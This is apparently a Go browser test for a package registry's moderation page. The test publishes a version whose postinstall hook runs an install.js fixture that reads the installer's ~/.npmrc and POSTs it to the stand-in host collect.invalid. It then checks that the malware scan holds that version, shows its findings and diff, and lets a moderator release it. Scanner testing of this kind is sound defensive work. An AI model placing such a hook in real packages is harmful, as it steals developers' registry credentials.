package browser

import (
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/rampart/rampart/internal/testserver"
)

// TestModerationVersionPageReleases (issue 10, GEN-2c): a version the
// malware scan held shows in the moderation area; its page shows the
// evidence (why, the findings with their excerpt, the files with sizes
// and digests, the diff against the previous version), and a moderator's
// Release serves it again.
func TestModerationVersionPageReleases(t *testing.T) {
	t.Parallel()
	s := testserver.Start(t, testserver.Options{SMTP: true})
	for _, u := range []struct{ name, role string }{{"chief", "--admin"}, {"alice", ""}} {
		args := []string{"user", "create", "--name", u.name, "--email", u.name + "@example.com", "--verified", "--password-stdin"}
		if u.role != "" {
			args = append(args, u.role)
		}
		if out, err := s.Admin(t, alicePW+"\n", args...); err != nil {
			t.Fatalf("admin user create %s: %v\n%s", u.name, err, out)
		}
	}
	n := testserver.NewNPM(t, s.URL)
	n.Login("alice", alicePW, "")
	n.MustRun(writePkg(t, map[string]any{"name": "pad-kit", "version": "1.0.0"}, "# pad-kit\n"), "publish")
	dir := writePkg(t, map[string]any{"name": "pad-kit", "version": "1.1.0", "scripts": map[string]string{"postinstall": "node install.js"}}, "# pad-kit\n")
	stealer := "const fs = require('fs'), os = require('os')\nrequire('https').request({ host: 'collect.invalid', method: 'POST' }).end(fs.readFileSync(os.homedir() + '/.npmrc'))\n"
	if err := os.WriteFile(filepath.Join(dir, "install.js"), []byte(stealer), 0o644); err != nil {
		t.Fatal(err)
	}
	n.MustRun(dir, "publish")

	b := newBrowser(t, 3*time.Minute)
	b.addAuthenticator(platformPasskeys)
	b.run("open the sign-in page", chromedp.Navigate(s.URL+"login?next=/account"))
	b.enterPassword("chief", alicePW, `nav.account .who`)
	b.registerKey(s.URL, "Admin laptop", "passkey")
	b.signOut()
	b.run("sign in with the passkey",
		chromedp.Navigate(s.URL+"login?next=/moderation"),
		chromedp.WaitVisible(chromedp.CSS(`#passkey-signin`)),
		chromedp.Click(chromedp.CSS(`#passkey-signin`)),
		chromedp.WaitVisible(chromedp.CSS(`nav.account .who`)),
	)
	b.run("open the moderation area from the header",
		chromedp.Navigate(s.URL),
		chromedp.WaitVisible(chromedp.CSS(`nav.account a[href="/moderation"]`)),
		chromedp.Click(chromedp.CSS(`nav.account a[href="/moderation"]`)),
		chromedp.WaitVisible(chromedp.CSS(`table.held`)),
	)
	mustContain(t, b.text(`table.held`), "pad-kit@1.1.0", "scan", "RAMPART-CREDENTIAL-EXFILTRATION")
	b.run("open the held version",
		chromedp.Click(chromedp.CSS(`tr.held-version[data-version="pad-kit@1.1.0"] a`)),
		chromedp.WaitVisible(chromedp.CSS(`table.findings`)),
	)
	if loc := b.location(); !strings.HasSuffix(loc, "/moderation/package/pad-kit/v/1.1.0") {
		t.Fatalf("the version's page is at %s", loc)
	}
	mustContain(t, b.text(`p.state`), "quarantined", "scan")
	mustContain(t, b.text(`table.findings`), "RAMPART-CREDENTIAL-EXFILTRATION", "install.js", "critical", ".npmrc")
	mustContain(t, b.text(`table.files`), "install.js", "package.json")
	if got := b.text(`table.files`); !regexpSHA256.MatchString(got) {
		t.Fatalf("the file list shows no SHA-256 digests:\n%s", got)
	}
	mustContain(t, b.text(`main`), "Changes since 1.0.0", "install.js added", "+require('https')", `"postinstall": "node install.js"`)

	b.run("release it",
		chromedp.SetValue(chromedp.CSS(`form.release input[name="reason"]`), "a test fixture of our own"),
		chromedp.Click(chromedp.CSS(`form.release button`)),
		chromedp.WaitVisible(chromedp.CSS(`p[role="status"]`)),
	)
	mustContain(t, b.text(`p[role="status"]`), "released: served again", "dist-tag latest")
	mustContain(t, b.text(`p.state`), "live")
	resp, err := http.Get(s.URL + "pad-kit/-/pad-kit-1.1.0.tgz")
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		t.Fatalf("the released tarball answers %d", resp.StatusCode)
	}
	b.run("back to the area", chromedp.Navigate(s.URL+"moderation"), chromedp.WaitVisible(chromedp.CSS(`table.held`)))
	mustContain(t, b.text(`table.held`), "Nothing is held")
}

var regexpSHA256 = regexp.MustCompile(`[0-9a-f]{64}`)
